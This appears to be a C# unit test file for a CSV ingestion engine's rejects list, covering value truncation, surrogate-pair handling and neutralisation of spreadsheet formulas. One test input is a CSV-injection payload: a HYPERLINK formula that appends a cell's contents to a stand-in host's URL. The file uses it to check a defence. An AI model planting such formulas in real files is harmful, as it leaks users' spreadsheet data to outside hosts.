using Centric.Engine.Ingestion;
using Centric.Testing;

namespace Centric.Engine.Tests.Ingestion;

public sealed class RejectsListTests : IDisposable
{
    private const string Orders = "order_id,customer_id,order_date,amount\n";
    private readonly IngestionScratch scratch = new();

    public void Dispose() => scratch.Dispose();

    [Fact]
    public void Orders_TenMegabyteAmount_IsListedCutTo200CharactersWithItsLength()
    {
        var huge = new string('9', 100) + new string('x', (10 * 1024 * 1024) - 100);

        var result = scratch.IngestText("orders.csv", Orders + "1,c,2026-10-01," + huge + "\n2,c,2026-10-01,5\n");

        var shown = new string('9', 100) + new string('x', 100) + "…(10485760 characters)";
        var reject = Assert.Single(result.SampleRejects);
        Assert.Equal(shown, reject.Value);
        Assert.Equal($"amount '{shown}' is not a number (decimal separator '.')", reject.Reason);
        Assert.True(new FileInfo(scratch.RejectsPath).Length < 1024, "the rejects file holds the cut value only");
        var record = CsvTable.Parse(File.ReadAllText(scratch.RejectsPath))[1];
        Assert.Equal(["2", "amount", shown, reject.Reason], record);
        Assert.Equal(1L, result.Accepted);
    }

    [Fact]
    public void Orders_RowWithTooManyHugeFields_IsListedCut()
    {
        var huge = new string('y', 5000);

        var result = scratch.IngestText("orders.csv", Orders + $"1,c,2026-10-01,5,{huge},{huge}\n");

        var reject = Assert.Single(result.SampleRejects);
        Assert.Equal("*", reject.Column);
        Assert.EndsWith("…(10018 characters)", reject.Value, StringComparison.Ordinal);
        Assert.Equal(RejectedValue.MaxLength + "…(10018 characters)".Length, reject.Value!.Length);
    }

    [Fact]
    public void Orders_FormulaValues_AreNeutralisedInTheFileButKeptInTheResult()
    {
        var result = scratch.IngestText(
            "orders.csv",
            Orders + "1,c,2026-10-01,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"click\"\")\"\n2,c,2026-10-01,@SUM(A1)\n3,c,2026-10-01,+1x\n");

        Assert.Equal(
            ["=HYPERLINK(\"http://x.example/?\"&A1;\"click\")", "@SUM(A1)", "+1x"],
            result.SampleRejects.Select(r => r.Value));
        var text = File.ReadAllText(scratch.RejectsPath);
        Assert.Empty(CsvTable.Formulas(text));
        Assert.Equal(
            ["'=HYPERLINK(\"http://x.example/?\"&A1;\"click\")", "'@SUM(A1)", "'+1x"],
            CsvTable.Parse(text).Skip(1).Select(r => r[2]));
    }

    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(200)]
    public void Cut_AtMost200Characters_KeepsTheValue(int length)
    {
        var value = new string('a', length);

        Assert.Same(value, RejectedValue.Cut(value));
    }

    [Fact]
    public void Cut_201Characters_KeepsTheFirst200AndStatesTheLength() =>
        Assert.Equal(new string('a', 200) + "…(201 characters)", RejectedValue.Cut(new string('a', 201)));

    [Fact]
    public void Cut_AtASurrogatePair_KeepsThePairWhole()
    {
        var value = new string('a', 199) + "😀" + "tail";

        Assert.Equal(new string('a', 199) + "…(205 characters)", RejectedValue.Cut(value));
    }

    [Fact]
    public void Cut_Null_IsNull() => Assert.Null(RejectedValue.Cut(null));
}
